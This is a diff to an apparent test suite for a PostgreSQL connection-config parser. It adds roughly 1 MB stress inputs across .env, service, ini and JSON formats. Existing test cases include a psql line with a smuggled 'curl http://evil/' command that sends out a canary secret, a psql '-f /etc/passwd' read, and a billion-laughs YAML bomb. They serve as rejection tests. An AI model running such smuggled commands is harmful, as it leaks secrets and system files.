@@ -19,6 +19,13 @@ const server = (more: object) =>
   JSON.stringify({ Servers: { 1: { Name: 'x', Host: 'h', Port: 5432, Username: 'u', MaintenanceDB: 'd', ...more } } })
 const dbeaver = (configuration: object, more: object = {}) =>
   JSON.stringify({ connections: { a: { provider: 'postgresql', name: 'x', configuration, ...more } } })
+/** Lines up to a little less than 1 MB. */
+function megabyte(line: (at: number) => string): string {
+  let text = ''
+  for (let at = 1; text.length < 1_040_000; at += 1) text += line(at)
+  return text
+}
+
 const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
 for (const [at, name] of [...'bcdefghi'].entries()) {
   const before = 'abcdefgh'.charAt(at)
@@ -122,6 +129,39 @@ const FILES: readonly (readonly [string, string, string | Uint8Array, RegExp])[]
   ['a quote that is never closed', '.env', `PGHOST="h\nPGUSER=u\nPGPASSWORD=${CANARY}\n`, /cannot have/],
   ['psql with a second command', '', `psql -h h -U u d; curl http://evil/${CANARY}`, /goes on behind psql/],
   ['psql with a file to run', '', 'psql -h h -U u -f /etc/passwd d', /"name":"-f"/],
+  // size
+  [
+    '1 MB of variables with prefixes of their own',
+    '.env',
+    megabyte((at) => `A${at}_DB_HOST=h${at}\nA${at}_DB_USER=u\n`),
+    /"host":"h1"/,
+  ],
+  ['1 MB of URLs', '.env', megabyte((at) => `U${at}=postgres://u:x@h${at}/d\n`), /"host":"h1"/],
+  ['1 MB of quotes', '.env', megabyte(() => 'A="\n'), /^$/],
+  ['1 MB of references', '.env', `PGUSER=u\nPGHOST=${'@{A:-b}'.repeat(140_000)}\n`, /longer than 1024/],
+  ['1 MB of dollars', '.env', `PGUSER=u\nPGHOST=${'@{'.repeat(400_000)}\n`, /variable/],
+  ['1 MB of services', 'pg_service.conf', megabyte((at) => `[s${at}]\nhost=h${at}\n`), /"host":"h1"/],
+  [
+    '1 MB of one service',
+    'pg_service.conf',
+    `[s]\nhost=h\n${megabyte((at) => `k${at}=v\n`)}`,
+    /libpq refuses this service/,
+  ],
+  [
+    '1 MB of continued lines',
+    'yoyo.ini',
+    `[DEFAULT]\ndatabase = postgres://u@h/d\n${megabyte(() => ' x\n')}`,
+    /too long for a connection/,
+  ],
+  ['1 MB of percent signs', 'yoyo.ini', `[DEFAULT]\ndatabase = ${'%%'.repeat(500_000)}\n`, /single %/],
+  ['1 MB of commands', 'notes.txt', megabyte((at) => `psql -h h${at} -U u d\n`), /"host":"h1"/],
+  ['1 MB in one line', 'notes.txt', `psql ${'-h '.repeat(340_000)}`, /too long/],
+  [
+    '1 MB of connections',
+    'data-sources.json',
+    `{"connections":{${megabyte((at) => `"a${at}":{"provider":"postgresql","configuration":{"host":"h"}},`)}"z":{}}}`,
+    /"host":"h"/,
+  ],
   // YAML
   [
     'a YAML of a billion laughs',
